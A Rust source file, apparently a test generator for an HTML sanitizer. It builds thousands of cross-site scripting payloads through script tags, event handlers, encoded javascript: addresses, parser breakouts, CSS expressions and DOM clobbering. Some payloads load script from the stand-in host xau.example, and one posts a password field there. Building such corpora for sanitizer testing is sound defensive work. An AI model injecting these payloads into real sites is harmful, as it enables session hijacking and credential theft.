//! Attacks, made from families: what acts, how it is written, where it stands.

/// Family by family.
pub(crate) fn families() -> Vec<(&'static str, Vec<String>)> {
    vec![
        ("scripts", scripts()),
        ("handlers", handlers()),
        ("addresses", addresses()),
        ("raw text", raw_text()),
        ("foreign elements", foreign()),
        ("comments", comments()),
        ("breakouts", breakouts()),
        ("documents", documents()),
        ("players", players()),
        ("styles", styles()),
        ("misnesting", misnesting()),
        ("clobbering", clobbering()),
        ("unclosed", unclosed()),
        ("letters", letters()),
    ]
}

/// Every one with `each` of the others, in rotation, so that all are used alike.
fn rotate<'a, A, B>(ones: &'a [A], others: &'a [B], each: usize) -> impl Iterator<Item = (&'a A, &'a B)> {
    let pair = move |(at, one): (usize, &'a A)| {
        (0..each.min(others.len()))
            .map(move |step| (one, &others[(at * each + at / others.len() + step) % others.len()]))
    };
    ones.iter().enumerate().flat_map(pair)
}

/// Every one with every other.
fn all<'a, A, B>(ones: &'a [A], others: &'a [B]) -> impl Iterator<Item = (&'a A, &'a B)> {
    rotate(ones, others, others.len())
}

/// `Aa` by turns.
fn swinging(text: &str) -> String {
    let swing = |(at, c): (usize, char)| if at % 2 == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() };
    text.chars().enumerate().map(swing).collect()
}

/// With something behind its third letter.
fn split_by(text: &str, wedge: &str) -> String {
    let (head, tail) = text.split_at(3);
    format!("{head}{wedge}{tail}")
}

fn each_letter(text: &str, write: impl Fn(u32) -> String) -> String {
    text.chars().map(|c| write(u32::from(c))).collect()
}

fn scripts() -> Vec<String> {
    let names =
        ["script", "SCRIPT", "ScRiPt", "script/", "script\t", "script\n", "script\u{c}", "script x=\">\"", "script/x"];
    let bodies = [
        ("", "tin(1)"),
        (" src=//xau.example/t.js", ""),
        (" type=module", "import 'https://xau.example/t.js'"),
        (" async src=\"data:text/javascript,tin(1)\"", ""),
        ("", "<!-- tin(1) -->"),
        ("", "<!--<script>tin(1)</script>"),
        ("", "//<![CDATA[\ntin(1)//]]>"),
        (" language=vbs", "MsgBox 1"),
    ];
    let mut found: Vec<String> =
        all(&names, &bodies).map(|(name, (attributes, body))| format!("<{name}{attributes}>{body}</script>")).collect();
    let odd = [
        "<scr<script>ipt>tin(1)</scr</script>ipt>",
        "<<script>tin(1)//<</script>",
        "<script>tin(1)",
        "<script>tin(1)</script",
        "<script>tin(1)</script x><script>tin(2)</script y>",
        "<script>tin(1)</scr\0ipt><script>tin(2)</script>",
        "</script><script>tin(1)</script>",
        "<script\0>tin(1)</script>",
        "<sc\0ript>tin(1)</sc\0ript><script>tin(2)</script>",
        "<script src=//xau.example/t.js<b>",
        "<svg><script>tin&#40;1&#41;</script></svg>",
        "<svg><script href=data:,tin(1) />",
        "<math><script>tin(1)</script></math>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">tin(1)</x:script>",
        "<html:script>tin(1)</html:script>",
        "<xml id=t><script>tin(1)</script></xml>",
        "<p><script>document.write('<img src=x onerror=tin(1)>')</script></p>",
        "<b <script>tin(1)</script>>chữ</b>",
        "<img src=\"x\" <script>tin(1)</script>>",
        "<!DOCTYPE x [<!ENTITY y '<script>tin(1)</script>'>]>&y;<script>tin(2)</script>",
    ];
    found.extend(odd.map(str::to_owned));
    found
}

fn handlers() -> Vec<String> {
    let names = [
        "onabort",
        "onafterprint",
        "onanimationend",
        "onanimationiteration",
        "onanimationstart",
        "onauxclick",
        "onbeforecopy",
        "onbeforeinput",
        "onbeforematch",
        "onbeforetoggle",
        "onbeforeunload",
        "onbegin",
        "onblur",
        "onbounce",
        "oncanplay",
        "onchange",
        "onclick",
        "onclose",
        "oncontentvisibilityautostatechange",
        "oncopy",
        "oncuechange",
        "oncut",
        "ondblclick",
        "ondrag",
        "ondrop",
        "onend",
        "onerror",
        "onfinish",
        "onfocus",
        "onfocusin",
        "onformdata",
        "onfullscreenchange",
        "onhashchange",
        "oninput",
        "oninvalid",
        "onkeydown",
        "onload",
        "onloadstart",
        "onmessage",
        "onmouseenter",
        "onmouseover",
        "onmousewheel",
        "onpageshow",
        "onpaste",
        "onpointerdown",
        "onpointerrawupdate",
        "onpopstate",
        "onpropertychange",
        "onreadystatechange",
        "onrepeat",
        "onresize",
        "onscroll",
        "onscrollend",
        "onscrollsnapchange",
        "onsearch",
        "onselect",
        "onshow",
        "onstart",
        "onstorage",
        "onsubmit",
        "ontimeupdate",
        "ontoggle",
        "ontouchstart",
        "ontransitionend",
        "onunload",
        "onwebkitanimationstart",
        "onwheel",
        "ON\u{fb}LOAD",
    ];
    // `@` is the handler with its value.
    let carriers = [
        "<img src=x @>",
        "<img/src=x/@>",
        "<img src=\"x\"@>",
        "<img\nsrc=x\n@\n>",
        "<p @>chữ</p>",
        "<a href=/x title=y @>chữ</a>",
        "<body @>",
        "<svg @>",
        "<svg><animate @ attributeName=x>",
        "<math @>",
        "<details open @>",
        "<input autofocus @>",
        "<select autofocus @><option>",
        "<video src=x @>",
        "<audio src=x @>",
        "<video><source @></video>",
        "<iframe @>",
        "<object data=x @>",
        "<embed src=x @>",
        "<marquee @>chữ</marquee>",
        "<td @>chữ</td>",
        "<table @><tr @><td>chữ</table>",
        "<form @><button @>chữ</form>",
        "<b style=x @>chữ</b>",
        "<div popover id=x @>chữ</div>",
        "<meter @>0</meter>",
        "<p contenteditable tabindex=1 @>chữ",
        "<la-la @>chữ</la-la>",
        "<html @><frameset @>",
        "<dialog open @>chữ</dialog>",
        "</p @><p @>chữ",
        "<blockquote cite=x @>chữ</blockquote>",
    ];
    let writings = [
        "@=tin(1)",
        "@=\"tin(1)\"",
        "@='tin(1)'",
        "@ =\ttin(1)",
        "@\u{c}=\u{c}tin(1)",
        "@=&#116;in&lpar;1)",
        "@=`tin(1)`",
    ];
    let written: Vec<String> = rotate(&names, &writings, 2)
        .enumerate()
        .map(|(at, (name, writing))| {
            writing.replace('@', &if at % 3 == 0 { swinging(name) } else { (*name).to_owned() })
        })
        .collect();
    rotate(&written, &carriers, 3).map(|(handler, carrier)| carrier.replace('@', handler)).collect()
}

fn addresses() -> Vec<String> {
    let acts = [
        "javascript:tin(1)",
        "vbscript:MsgBox(1)",
        "data:text/html,<script>tin(1)</script>",
        "data:image/svg+xml;utf8,<svg onload=tin(1)>",
        "javascript://portal.example.vn/%0Atin(1)",
        "livescript:tin(1)",
        "blob:https://portal.example.vn/1",
        "file:///etc/passwd",
        "view-source:javascript:tin(1)",
        "jar:https://xau.example/t.jar!/t.html",
    ];
    // `@` is the address. The last two are where late pictures keep theirs.
    let carriers = [
        "<a href=\"@\">chữ</a>",
        "<a href='@' title=x>chữ",
        "<a title=x href=\"@\"><img src=\"@\"></a>",
        "<img src=\"@\">",
        "<img src=\"@\" alt=\"@\">",
        "<img srcset=\"@ 1x, @ 2x\" src=x>",
        "<picture><source srcset=\"@\"><img src=\"@\"></picture>",
        "<img src=x longdesc=\"@\" lowsrc=\"@\" dynsrc=\"@\">",
        "<area href=\"@\"><map name=x><area href=\"@\"></map>",
        "<a ping=\"@\" href=/x>chữ</a>",
        "<a xlink:href=\"@\">chữ</a>",
        "<base href=\"@\"><a href=/x>chữ</a>",
        "<link rel=stylesheet href=\"@\">",
        "<link rel=import href=\"@\">",
        "<meta http-equiv=refresh content=\"0;url=@\">",
        "<meta http-equiv=\"refresh\" content=\"0,@\">",
        "<iframe src=\"@\"></iframe>",
        "<iframe srcdoc=\"@\">",
        "<frameset><frame src=\"@\"></frameset>",
        "<embed src=\"@\">",
        "<object data=\"@\"></object>",
        "<object><param name=movie value=\"@\"></object>",
        "<applet code=\"@\" codebase=\"@\"></applet>",
        "<form action=\"@\"><input type=submit></form>",
        "<button formaction=\"@\">chữ</button>",
        "<input type=image src=\"@\" formaction=\"@\">",
        "<isindex action=\"@\" type=submit>",
        "<body background=\"@\">",
        "<table background=\"@\"><td background=\"@\">chữ</table>",
        "<video poster=\"@\" src=\"@\"></video>",
        "<audio><source src=\"@\"></audio><track src=\"@\">",
        "<blockquote cite=\"@\">chữ</blockquote><q cite=\"@\">chữ</q>",
        "<del cite=\"@\">chữ</del><ins cite=\"@\">chữ</ins>",
        "<svg><a href=\"@\"><text y=9>chữ</text></a></svg>",
        "<svg><a xlink:href=\"@\"><rect width=9 height=9></a></svg>",
        "<svg><use href=\"@#t\"></svg>",
        "<svg><image href=\"@\" xlink:href=\"@\"></svg>",
        "<svg><a><animate attributeName=href to=\"@\">chữ</a></svg>",
        "<svg><a><set attributeName=href to=\"@\" /><text>chữ</a>",
        "<svg><feImage href=\"@\"></svg>",
        "<math href=\"@\">chữ</math>",
        "<math><maction actiontype=statusline xlink:href=\"@\">chữ</maction></math>",
        "<html manifest=\"@\"><head profile=\"@\">",
        "<bgsound src=\"@\"><layer src=\"@\"></layer>",
        "<portal src=\"@\"></portal><fencedframe src=\"@\">",
        "<p style=\"background:url('@')\">chữ</p>",
        "<img data-src=\"@\">",
        "<img src=data:, data-original=\"@\">",
    ];
    let written: Vec<String> = acts.iter().flat_map(|act| disguises(act)).collect();
    rotate(&written, &carriers, 4).map(|(address, carrier)| carrier.replace('@', address)).collect()
}

/// Ways to write an address that browsers read alike, and some that they do not.
fn disguises(address: &str) -> Vec<String> {
    let (scheme, rest) = address.split_once(':').unwrap_or_default();
    vec![
        address.to_owned(),
        format!("{}:{rest}", scheme.to_uppercase()),
        format!("{}:{rest}", swinging(scheme)),
        format!(" \t\n{address}"),
        format!("\u{1}\u{8}\u{1f}{address}"),
        format!("\0{address}"),
        format!("&#1;&#x1f; {address}"),
        split_by(address, "\t"),
        split_by(address, "\n"),
        split_by(address, "\r\n"),
        split_by(address, "&#9;"),
        split_by(address, "&#x0000A;"),
        split_by(address, "&Tab;&NewLine;"),
        split_by(address, "\0"),
        split_by(address, "\u{ad}\t"),
        split_by(address, "\u{200b}"),
        format!("\u{feff}{address}"),
        format!("\u{a0}{address}"),
        format!("{scheme}&colon;{rest}"),
        format!("{scheme}\n:{rest}"),
        format!("{scheme}&#58{rest}"),
        format!("{scheme}&#x000003a;{rest}"),
        format!("{scheme}\u{ff1a}{rest}"),
        format!("{scheme}%3a{rest}"),
        format!("{}:{rest}", each_letter(scheme, |code| format!("&#{code};"))),
        format!("{}:{rest}", each_letter(scheme, |code| format!("&#{code:07}"))),
        each_letter(address, |code| format!("&#x{code:x};")),
        format!("{}:{rest}", each_letter(scheme, |code| format!("&amp;#{code};"))),
        format!("{}:{rest}", each_letter(scheme, |code| format!("%{code:02x}"))),
        format!("feed:{address}"),
        format!("//{address}"),
        format!("{address}//https://portal.example.vn/"),
    ]
}

/// Elements whose content some parser, in some state, takes for text: what one
/// reads as an attribute's value is markup for the other.
fn raw_text() -> Vec<String> {
    let names = [
        "noscript",
        "template",
        "style",
        "title",
        "textarea",
        "xmp",
        "noembed",
        "noframes",
        "iframe",
        "plaintext",
        "select",
        "option",
        "script",
        "listing",
        "object",
        "button",
        "video",
        "canvas",
        "svg",
        "math",
    ];
    let shapes = [
        "<#><p title=\"</#><img src=x onerror=tin(1)>\">",
        "<#><a title='</#><img src=x onerror=tin(1)>'>chữ</a></#>",
        "<#><!--</#><img src=x onerror=tin(1)>--></#>",
        "<#><![CDATA[</#><img src=x onerror=tin(1)>]]></#>",
        "<#><#></#><img src=x onerror=tin(1)></#>",
        "<#><svg><style><!--</#><img src=x onerror=tin(1)>--></style></svg></#>",
        "<p><#></p><img src=x onerror=tin(1)></#>",
        "<table><#><tr><td><img src=x onerror=tin(1)></#></table>",
        "<# x='</#>'><img src=x onerror=tin(1)>",
        "<#/><img src=x onerror=tin(1)>",
    ];
    all(&names, &shapes).map(|(name, shape)| shape.replace('#', name)).collect()
}

/// The languages within HTML, and the ways back out of them.
fn foreign() -> Vec<String> {
    let ways_in = [
        "<svg>",
        "<svg><p>",
        "<svg><desc>",
        "<svg><title>",
        "<svg><foreignObject>",
        "<svg><g><style>",
        "<math>",
        "<math><mi>",
        "<math><mtext><table><mglyph>",
        "<math><mtext><mglyph>",
        "<math><mtext><malignmark>",
        "<math><annotation-xml>",
        "<math><annotation-xml encoding=\"text/html\">",
        "<math><annotation-xml encoding=\"application/xhtml+xml\"><svg>",
        "<math><semantics><annotation encoding=\"text/html\">",
        "<form><math><mtext></form><form><mglyph>",
        "<svg></p>",
        "<math></br>",
    ];
    let acts = [
        "<style><img src=x onerror=tin(1)></style>",
        "<style><!--</style><img src=x onerror=tin(1)>-->",
        "<style><a title=\"</style><img src=x onerror=tin(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=tin(1)>\">",
        "<![CDATA[<img src=x onerror=tin(1)>]]>",
        "<![CDATA[x]]><script>tin(1)</script>",
        "<!--<img src=x onerror=tin(1)>--!><img src=y onerror=tin(2)>",
        "<mglyph><svg><mtext><style><p title=\"</style><img src=x onerror=tin(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=tin(1)>\">",
        "<a href=javascript:tin(1)>chữ</a>",
        "<font color=x><img src=x onerror=tin(1)></font>",
        "<set onbegin=tin(1)><animate onend=tin(2)>",
    ];
    all(&ways_in, &acts).map(|(way, act)| format!("{way}{act}")).collect()
}

fn comments() -> Vec<String> {
    let openings = [
        "<!-->",
        "<!--->",
        "<!--!>",
        "<!----!>",
        "<!-- x --!>",
        "<!-- x -- >",
        "<!-- x --\n>",
        "<!-- -->",
        "<!-",
        "<!",
        "<!x>",
        "<!>",
        "<?",
        "<?>",
        "<?xml version=\"1.0\"?>",
        "<?php echo '>' ?>",
        "<?import namespace=t implementation=x?>",
        "</ x>",
        "</>",
        "</\0>",
        "<%",
        "<% x %>",
        "<![CDATA[",
        "<![CDATA[>",
        "<![CDATA[x]]>",
        "<![if gte IE 4]>",
        "<!--[if gte IE 4]>",
        "<!--[if IE]><!-->",
        "<!DOCTYPE html>",
        "<!DOCTYPE x SYSTEM 'y\">'>",
        "<!ELEMENT x>",
        "<!--<!--",
        "<!--\0-->",
        "<!--><!--",
        "<![CDATA[<!--]]>",
        "<comment>",
    ];
    let acts = [
        "<img src=x onerror=tin(1)>",
        "<img src=x onerror=tin(1)>-->",
        "<script>tin(1)</script><!--",
        "<a href=javascript:tin(1)>chữ</a>]]>",
    ];
    all(&openings, &acts).map(|(opening, act)| format!("{opening}{act}")).collect()
}

/// Values that end too early for somebody.
fn breakouts() -> Vec<String> {
    let carriers = [
        "<abbr title=#>chữ</abbr>",
        "<a href=/x title=#>chữ</a>",
        "<a href=#>chữ</a>",
        "<img src=x alt=#>",
        "<img src=# title=#>",
        "<img src=x width=# height=#>",
        "<ol start=#><li>chữ</ol>",
        "<table><tr><td colspan=# rowspan=#>chữ</table>",
        "<table><tr><th scope=#>chữ</table>",
    ];
    let values = [
        "\"x\" onmouseover=tin(1) y=\"",
        "'x' onmouseover=tin(1) y='",
        "\"x\"onmouseover=\"tin(1)\"",
        "x&quot; onmouseover=tin(1) \"",
        "\"&quot;&gt;&lt;script&gt;tin(1)&lt;/script&gt;\" onclick=tin(2)",
        "\"x\"><script>tin(1)</script><b y=\"",
        "`x` onmouseover=tin(1)",
        "\"`&grave; onmouseover=tin(1)\" onclick=tin(2)",
        "\"<!--\" onclick=tin(1) y=\"-->\"",
        "\"</noscript><img src=x onerror=tin(1)>\" onclick=tin(2)",
        "\"</style></title></textarea><svg onload=tin(1)>\" onclick=tin(2)",
        "\"]]><svg onload=tin(1)>\" onclick=tin(2)",
        "\"x\ny\" \nonclick\n=\ntin(1)",
        "\"&lt;img src=x onerror=tin(1)&gt;\" style=x",
        "\"&#x338;>&#x338;<img src=x onerror=tin(1)>\"><svg onload=tin(2)>",
        "\"x\0\" \0onclick=tin(1)",
        "x\0 onclick=tin(1)",
        "\"{{tin(1)}}${tin(1)}\" onclick=tin(1)",
    ];
    all(&carriers, &values).map(|(carrier, value)| carrier.replace('#', value)).collect()
}

fn documents() -> Vec<String> {
    let acts = [
        "<meta charset=utf-7>",
        "<meta http-equiv=set-cookie content=x=y>",
        "<meta http-equiv=content-security-policy content=\"\">",
        "<meta name=referrer content=unsafe-url>",
        "<base href=//xau.example/>",
        "<base target=\"</title><script>tin(1)</script>\">",
        "<link rel=stylesheet href=//xau.example/x.css>",
        "<link rel=preload as=script href=//xau.example/x.js>",
        "<link rel=modulepreload href=//xau.example/x.js>",
        "<object type=text/x-scriptlet data=//xau.example/x>",
        "<object classid=clsid:x><param name=src value=javascript:tin(1)></object>",
        "<embed code=//xau.example/x.swf allowscriptaccess=always>",
        "<applet code=x archive=//xau.example/x.jar>",
        "<frameset onload=tin(1)><frame src=//xau.example/>",
        "<iframe srcdoc=\"&lt;script&gt;tin(1)&lt;/script&gt;\">",
        "<iframe name=\"<script>tin(1)</script>\" src=//xau.example/>",
        "<form action=//xau.example/ method=post><input name=password type=password>",
        "<form id=x></form><button form=x formaction=javascript:tin(1)>chữ",
        "<input type=hidden oncontentvisibilityautostatechange=tin(1) style=content-visibility:auto>",
        "<template shadowrootmode=open><script>tin(1)</script></template>",
        "<slot name=x onslotchange=tin(1)>chữ</slot>",
        "<la-la is=x onconnected=tin(1)>chữ</la-la>",
        "<b is=x-la>chữ</b>",
        "<xml src=//xau.example/x.xml id=t></xml><span datasrc=#t datafld=x dataformatas=html>",
        "<dialog id=x open><form method=dialog><button>chữ</form></dialog>",
        "<button popovertarget=x onclick=tin(1)>chữ</button>",
        "<keygen autofocus onfocus=tin(1)>",
        "<menuitem icon=javascript:tin(1)>chữ</menuitem>",
        "<img src=x crossorigin referrerpolicy=unsafe-url onload=tin(1)>",
        "<script type=importmap>{\"imports\":{\"x\":\"//xau.example/\"}}</script>",
        "<script type=speculationrules>{\"prefetch\":[]}</script>",
        "<a href=/x target=_blank rel=opener>chữ</a>",
        "<a href=/x download=x.exe>chữ</a>",
        "<img src=x usemap=#m><map name=m><area shape=default href=javascript:tin(1)></map>",
        "<image src=x onerror=tin(1)>",
        "<ruby><rt onclick=tin(1)>chữ</ruby>",
    ];
    let frames = ["@", "<html><head>@</head><body>@</body></html>", "<noscript>@</noscript>", "<p>@</p>"];
    all(&acts, &frames).map(|(act, frame)| frame.replace('@', act)).collect()
}

/// Players are the one element that comes back as something else.
fn players() -> Vec<String> {
    let addresses = [
        "https://www.youtube.com/embed/x\"><script>tin(1)</script>",
        "https://www.youtube.com/embed/x&quot;&gt;&lt;script&gt;tin(1)&lt;/script&gt;",
        "https://www.youtube.com/embed/%22%3E%3Cscript%3Etin(1)",
        "https://www.youtube.com@xau.example/embed/x",
        "https://www.youtube.com.xau.example/embed/x",
        "https://xau.example/https://www.youtube.com/embed/x",
        "https://xau.example\\@www.youtube.com/embed/x",
        "https://www.youtube.com/embed/../redirect?q=//xau.example",
        "https://www.youtube.com/embed/x?y=javascript:tin(1)",
        "//www.youtube.com/embed/x'onload='tin(1)",
        "javascript://www.youtube.com/embed/x%0Atin(1)",
        "data://www.youtube.com/embed/x,<script>tin(1)</script>",
        "https://www.youtube.com:8443/embed/x",
        "http://www.youtube-nocookie.com/embed/<svg/onload=tin(1)>",
    ];
    let frames = [
        "<iframe src=\"@\"></iframe>",
        "<iframe src='@' onload=tin(1)>",
        "<iframe srcdoc=\"<script>tin(1)</script>\" src=\"@\"></iframe>",
        "<svg><iframe src=\"@\"></iframe></svg>",
        "<table><iframe src=\"@\"></iframe></table>",
    ];
    all(&addresses, &frames).map(|(address, frame)| frame.replace('@', address)).collect()
}

fn styles() -> Vec<String> {
    let rules = [
        "width:expression(tin(1))",
        "width:exp/**/ression(tin(1))",
        "width:e\\xpression(tin(1))",
        "width:\\65 xpression(tin(1))",
        "width:&#101;xpression&lpar;tin(1)&rpar;",
        "-moz-binding:url(//xau.example/x.xml#y)",
        "behavior:url(#default#time2)",
        "background:url(javascript:tin(1))",
        "background:url('java\nscript:tin(1)')",
        "background:\\75\\72\\6c(javascript:tin(1))",
        "list-style-image:url(data:image/svg+xml,<svg/onload=tin(1)>)",
        "position:fixed;inset:0;z-index:9999;opacity:0",
        "}*{display:none}x{",
        "animation-name:x;animation-duration:1s",
        "content-visibility:auto",
        "cursor:url(//xau.example/x)",
        "</style><script>tin(1)</script>",
        "@import '//xau.example/x.css'",
        "@font-face{font-family:x;src:url(//xau.example/x)}",
        "x:\0expression(tin(1))",
    ];
    let frames = [
        "<p style=\"@\">chữ</p>",
        "<img src=x style='@'>",
        "<a href=/x style=\"@\">chữ</a>",
        "<td STYLE=\"@\">chữ</td>",
        "<style>p{@}</style>",
        "<style media=all>@</style>chữ",
        "<svg><style>*{@}</style></svg>",
        "<div style=\"color:red;@\" class=x id=y>chữ</div>",
    ];
    all(&rules, &frames).map(|(rule, frame)| frame.replace('@', rule)).collect()
}

/// End tags that come late or never, and parents that may not be.
fn misnesting() -> Vec<String> {
    let frames = [
        "<form><div></form><form>@",
        "<form id=x><table><form>@</table></form>",
        "<table><a href=/x><table></a>@",
        "<table><b>@<tr><td>chữ",
        "<table><caption><select><td>@",
        "<table><colgroup><col>@</colgroup>",
        "<select><table><td>@</select>",
        "<a href=/1><a href=/2><div><a href=/3>@",
        "<b><i><b><i><p></b></i>@",
        "<p><button><p></button>@",
        "<nobr><nobr><table>@</nobr>",
        "<li><p><li><h1><h2>@</h1>",
        "<dd><dt><address>@</dd>",
        "<pre>\n\n@</pre>",
        "<ruby><rb><rtc><rt>@",
        "<frameset></frameset>@",
        "</body></html>@",
        "<head></head>@<head>",
        "<template><tr></template><tr>@",
        "<option><optgroup><option>@",
        "<h1><svg><h1>@",
        "<applet><marquee></applet>@",
    ];
    let acts = [
        "<img src=x onerror=tin(1)>",
        "<a href=javascript:tin(1) onclick=tin(2)>chữ",
        "<style><p title='</style><svg onload=tin(1)>'>",
        "<math><mtext><mglyph><style><img title=\"</style><svg onload=tin(1)>\">",
    ];
    all(&frames, &acts).map(|(frame, act)| frame.replace('@', act)).collect()
}

/// Names that scripts of the page would find instead of what they look for.
fn clobbering() -> Vec<String> {
    let names = [
        "body",
        "cookie",
        "documentElement",
        "attributes",
        "parentNode",
        "getElementById",
        "location",
        "nodeName",
        "defaultView",
        "__proto__",
        "constructor",
        "config",
    ];
    let frames = [
        "<a id=# href=/x>chữ</a>",
        "<img name=# src=x>",
        "<form id=#><input name=#></form>",
        "<a id=#><a id=# name=x href=\"cid:tin(1)\">chữ</a>",
        "<embed name=#>",
        "<p class=# id=# slot=# part=# itemid=#>chữ</p>",
    ];
    all(&names, &frames).map(|(name, frame)| frame.replace('#', name)).collect()
}

fn unclosed() -> Vec<String> {
    let beginnings = [
        "<img src=x onerror=tin(1) ",
        "<img src=x onerror=\"tin(1)",
        "<img src=\"x onerror=tin(1)>",
        "<svg onload=tin(1)//",
        "<svg/onload=tin(1)",
        "<a href=\"javascript:tin(1)",
        "<a href=javascript:tin(1)",
        "<iframe src=javascript:tin(1) ",
        "<script src=//xau.example/x.js ",
        "<style>@import'//xau.example/x';",
        "<input onfocus=tin(1) autofocus",
        "<p title='chữ><img src=x onerror=tin(1)>",
        "<textarea><img src=x onerror=tin(1)>",
        "<b <img src=x onerror=tin(1)",
        "<a\nhref\n=\njavascript:tin(1)\n",
    ];
    let endings = ["", "\n<p>", "<b>chữ</b>", "\"'>chữ", "</", "<"];
    all(&beginnings, &endings).map(|(beginning, ending)| format!("{beginning}{ending}")).collect()
}

/// The same markup in letters that some step may turn into others.
fn letters() -> Vec<String> {
    let acts = [
        "<img src=x onerror=tin(1)>",
        "<script>tin(1)</script>",
        "<svg onload=tin(1)>",
        "<a href=javascript:tin(1)>chữ</a>",
    ];
    let writings: [fn(&str) -> String; 16] = [
        |html| html.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
        |html| html.replace('<', "\u{2039}").replace('>', "\u{203a}"),
        |html| html.replace('<', "\u{226e}").replace('>', "\u{226f}"),
        |html| html.replace('<', "<\u{338}"),
        |html| html.replace('>', ">\u{338}"),
        |html| html.replace('>', "\u{338}>\u{338}\u{338}"),
        |html| html.replace('<', "+ADw-").replace('>', "+AD4-"),
        |html| html.replace('<', "\u{bc}").replace('>', "\u{be}"),
        |html| html.replace('<', "&lt;").replace('>', "&gt;"),
        |html| html.replace('<', "&amp;lt;").replace('>', "&amp;gt;"),
        |html| html.replace('<', "%3C").replace('>', "%3E"),
        |html| html.replace('<', "\\u003c").replace('>', "\\x3e"),
        |html| html.replace('<', "<\0").replace('>', "\0>"),
        |html| html.replace('s', "\u{17f}"),
        |html| html.chars().flat_map(|c| [c, '\u{200b}']).collect(),
        |html| html.chars().flat_map(|c| [c, '\0']).collect(),
    ];
    all(&writings, &acts).map(|(write, act)| format!("{}{}", write(act), act.replace("tin", "sau"))).collect()
}
